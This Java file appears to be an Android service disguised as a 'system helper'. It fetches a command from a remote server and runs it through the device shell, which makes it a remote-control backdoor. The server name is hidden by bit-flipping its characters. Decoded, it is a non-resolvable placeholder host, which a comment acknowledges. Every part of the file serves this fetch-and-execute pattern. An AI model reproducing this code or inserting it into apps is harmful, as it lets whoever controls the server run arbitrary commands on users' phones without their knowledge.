package com.larkspur.systemhelper;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.util.Log;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URL;

/** Runs the first line that the server answers. The server's name can never exist. */
public final class TaskService extends Service implements Runnable {
    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        new Thread(this).start();
        return START_NOT_STICKY;
    }

    @Override
    public void run() {
        try {
            BufferedReader in = new BufferedReader(new InputStreamReader(new URL(host() + "/task").openStream()));
            String task = in.readLine();
            in.close();
            if (task != null) {
                Runtime.getRuntime().exec(new String[] {"/system/bin/sh", "-c", task});
            }
        } catch (IOException e) {
            Log.w("SystemHelper", "no task", e);
        }
    }

    /** The name is not in the file as text: its bytes are, each with the lowest bit flipped. */
    private static String host() {
        char[] text = "iuuq;..u`rjr/m`sjrqts/how`mhe".toCharArray();
        for (int i = 0; i < text.length; i++) {
            text[i] ^= 1;
        }
        return new String(text);
    }
}
